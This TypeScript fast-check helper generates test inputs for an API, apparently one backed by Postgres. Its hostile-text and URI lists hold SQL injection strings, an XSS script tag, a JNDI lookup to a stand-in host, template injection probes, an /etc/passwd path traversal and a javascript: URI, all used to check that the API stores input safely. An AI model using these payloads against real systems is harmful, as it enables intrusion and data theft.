import fc from "fast-check";

/**
 * Valid text that has broken systems before: SQL and template metacharacters, prototype names,
 * bidi overrides, combining marks, emoji sequences, separators and control characters. An API that
 * parameterizes its queries stores each of them exactly as sent.
 */
export const HOSTILE_TEXT: readonly string[] = [
  "Robert'); DROP TABLE wineries;--",
  "' OR '1'='1' --",
  '" OR ""="',
  "%_\\ $1 $$ ::text; select pg_sleep(10)",
  "\\x00 \\' \\\\ \\u0000",
  "<script>alert(1)</script>",
  `\${jndi:ldap://x.example/a} {{7*7}} #{7*7}`,
  "__proto__",
  "constructor",
  "../../etc/passwd",
  "\u202egnp.exe",
  "👩‍👩‍👧‍👦🍷",
  "e\u0301\u0301\u0301",
  // Not leading: PGlite drops a leading U+FEFF on read (test/hardening/hostile-input.test.ts covers it).
  "BOM\ufeff inside",
  "line\u2028separator\u2029",
  "zero\u200bwidth",
  "tab\tnew\nline\rreturn",
  "\u0001\u001f\u007f\u0085",
  "Ω≈ç√∫˜µ≤≥÷",
  "𝕳𝖊𝖑𝖑𝖔",
  "null",
  " ",
];

/** Unlike `.length`, what JSON Schema's minLength/maxLength count: code points. */
export function codePointLength(text: string): number {
  return [...text].length;
}

/** Cuts or pads (with `x`) to a code point length within [min, max]. */
export function fitLength(text: string, min: number, max: number): string {
  const points = [...text];
  if (points.length > max) return points.slice(0, max).join("");
  return points.length < min ? text + "x".repeat(min - points.length) : text;
}

/** Free text within length bounds: any printable Unicode, raw code points, hostile strings, exact maximums. */
export function textArbitrary(minLength = 0, maxLength = 60): fc.Arbitrary<string> {
  const short = Math.min(maxLength, 40);
  return fc
    .oneof(
      { weight: 3, arbitrary: fc.string({ unit: "grapheme", minLength, maxLength: short }) },
      { weight: 2, arbitrary: fc.string({ unit: "grapheme-ascii", minLength, maxLength: short }) },
      // Any code point but NUL, which no Postgres text column can hold (see the ill-formed mutations).
      {
        weight: 1,
        arbitrary: fc
          .string({ unit: "binary", minLength, maxLength: short })
          .map((s) => s.replaceAll("\0", "")),
      },
      { weight: 2, arbitrary: fc.constantFrom(...HOSTILE_TEXT) },
      { weight: 1, arbitrary: fc.constantFrom("x", "🍷", "é").map((unit) => unit.repeat(maxLength)) },
    )
    .map((text) => fitLength(text, minLength, maxLength));
}

/** URIs ajv's `uri` format accepts, including schemes and hosts a naive parser gets wrong. */
export function uriArbitrary(maxLength = 2048): fc.Arbitrary<string> {
  return fc
    .oneof(
      { weight: 3, arbitrary: fc.webUrl({ withQueryParameters: true, withFragments: true }) },
      {
        weight: 1,
        arbitrary: fc.constantFrom(
          "https://x.example/?q=%27%20OR%201%3D1--",
          "http://[::1]:8080/a/../b",
          "https://xn--bcher-kva.example/",
          "urn:isbn:0451450523",
          "mailto:cellar@example.com",
          "javascript:alert(1)",
          `https://long.example/${"a".repeat(2000)}`,
        ),
      },
    )
    .filter((uri) => uri.length <= maxLength);
}

/** Uuids in every version and variant, the nil and max uuids, and the `urn:uuid:` form the format allows. */
export function uuidArbitrary(): fc.Arbitrary<string> {
  return fc.oneof(
    { weight: 5, arbitrary: fc.uuid() },
    { weight: 1, arbitrary: fc.uuid().map((uuid) => `urn:uuid:${uuid}`) },
    {
      weight: 1,
      arbitrary: fc.constantFrom(
        "00000000-0000-0000-0000-000000000000",
        "FFFFFFFF-FFFF-FFFF-FFFF-FFFFFFFFFFFF",
      ),
    },
  );
}

/** Strings matching a spec `pattern`, within length bounds. */
export function patternArbitrary(pattern: string, minLength = 0, maxLength = 255): fc.Arbitrary<string> {
  return fc
    .stringMatching(new RegExp(pattern))
    .filter((text) => codePointLength(text) >= minLength && codePointLength(text) <= maxLength);
}
